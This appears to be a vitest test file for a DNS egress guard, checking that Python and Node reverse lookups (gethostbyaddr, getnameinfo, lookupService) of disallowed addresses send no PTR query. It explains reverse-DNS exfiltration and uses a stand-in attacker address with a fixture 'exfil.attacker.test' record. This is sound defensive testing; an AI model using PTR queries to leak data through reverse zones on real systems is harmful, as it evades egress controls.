// Attacks through reverse lookups (docs/INTERPOSER.md "Hooks", reverse.c): a PTR query for an address the program
// picks (10.77.0.66 → 66.0.77.10.in-addr.arpa, or 32 nibbles of an IPv6 address) reaches whoever runs that reverse
// zone — 24 to 128 bits of data per query. The rule: a reverse lookup is allowed when the address is an allowed
// destination (for some use, with the name an earlier lookup bound to it). Each attempt is a plain Python or Node
// script run as `nobody` in enforce mode, with the namespace's DNS server recording every query; passing = no PTR query
// for an address the policy does not allow, the call fails as glibc fails for an address without a name (or answers
// numerically), and a guard line names the address.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needCommand, needNetns } from '../support/capability.js';
import { needLibrary } from '../support/guard.js';
import {
  ATTACKER_IP,
  createResolverWorld,
  explainRun,
  guardLines,
  PYTHON,
  type ResolverWorld,
  SERVICE_IP,
} from './resolver-world.js';

const ok = needNetns() && needLibrary() && needCommand('setpriv', '--version') && needCommand(PYTHON, '--version');

const POLICY = `version: 1
mode: enforce
allow:
  - name: example
    host: "*.example.com"
`;

const V6 = '2001:db8::dead:beef';
const isPtr = (q: string) => q.endsWith('.arpa');

describe.skipIf(!ok)('resolver attacks: reverse lookups', () => {
  let world: ResolverWorld;
  let policy: string;
  beforeAll(async () => {
    world = await createResolverWorld({
      prefix: 'egrr',
      records: { 'api.example.com': [SERVICE_IP] },
      ptr: {
        '66.0.77.10.in-addr.arpa': 'exfil.attacker.test',
        '10.0.77.10.in-addr.arpa': 'api.example.com',
      },
    });
    policy = world.policy('reverse', POLICY);
  });
  afterAll(() => world?.destroy());

  it('Python: gethostbyaddr, getnameinfo, getfqdn of addresses the policy does not allow send no PTR query', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `
import json, socket
out = {}
for a in ["${ATTACKER_IP}", "${V6}"]:
    try: out["gethostbyaddr " + a] = socket.gethostbyaddr(a)[0]
    except OSError as e: out["gethostbyaddr " + a] = "error"
    out["getnameinfo " + a] = socket.getnameinfo((a, 80), 0)[0]
    try: out["getnameinfo NAMEREQD " + a] = socket.getnameinfo((a, 80), socket.NI_NAMEREQD)[0]
    except OSError as e: out["getnameinfo NAMEREQD " + a] = "error"
    out["getfqdn " + a] = socket.getfqdn(a)
print(json.dumps(out))`,
    });
    expect(r.out, explainRun(r)).toEqual({
      [`gethostbyaddr ${ATTACKER_IP}`]: 'error',
      [`getnameinfo ${ATTACKER_IP}`]: ATTACKER_IP, // answered numerically, as glibc does for an address without a name
      [`getnameinfo NAMEREQD ${ATTACKER_IP}`]: 'error',
      [`getfqdn ${ATTACKER_IP}`]: ATTACKER_IP,
      [`gethostbyaddr ${V6}`]: 'error',
      [`getnameinfo ${V6}`]: V6,
      [`getnameinfo NAMEREQD ${V6}`]: 'error',
      [`getfqdn ${V6}`]: V6,
    });
    expect(r.queries.filter(isPtr), explainRun(r)).toEqual([]);
    for (const call of ['gethostbyaddr_r', 'getnameinfo']) {
      const lines = guardLines(r.logs, { event: 'dns', ip: ATTACKER_IP, call, blocked: true, rule: 'default' });
      expect(lines.length, `${call}: ${explainRun(r)}`).toBeGreaterThanOrEqual(1);
    }
    expect(guardLines(r.logs, { event: 'dns', ip: V6, blocked: true }).length).toBeGreaterThanOrEqual(3);
  });

  it('Node: dns.lookupService (getnameinfo) of the attacker address sends no PTR query', async () => {
    const r = await world.attack({
      lang: 'node',
      policy,
      code: `
require('node:dns').lookupService('${ATTACKER_IP}', 80, (e, host) => console.log(JSON.stringify(e ? e.code : host)));`,
    });
    expect(r.out, explainRun(r)).toBe('ENOTFOUND'); // libuv asks with NI_NAMEREQD: no name, as for no PTR record
    expect(r.queries.filter(isPtr), explainRun(r)).toEqual([]);
    expect(guardLines(r.logs, { event: 'dns', ip: ATTACKER_IP, call: 'getnameinfo', blocked: true })).toHaveLength(1);
  });

  it('the reverse lookup of an allowed destination (bound by an earlier lookup) still works', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: `
import json, socket
ip = socket.getaddrinfo("api.example.com", 443, type=socket.SOCK_STREAM)[0][4][0]
print(json.dumps([ip, socket.gethostbyaddr(ip)[0], socket.getnameinfo((ip, 443), socket.NI_NAMEREQD)[0]]))`,
    });
    expect(r.out, explainRun(r)).toEqual([SERVICE_IP, 'api.example.com', 'api.example.com']);
    expect(r.queries).toContain('10.0.77.10.in-addr.arpa');
    expect(guardLines(r.logs, { event: 'dns', ip: SERVICE_IP, decision: 'deny' })).toEqual([]);
  });
});
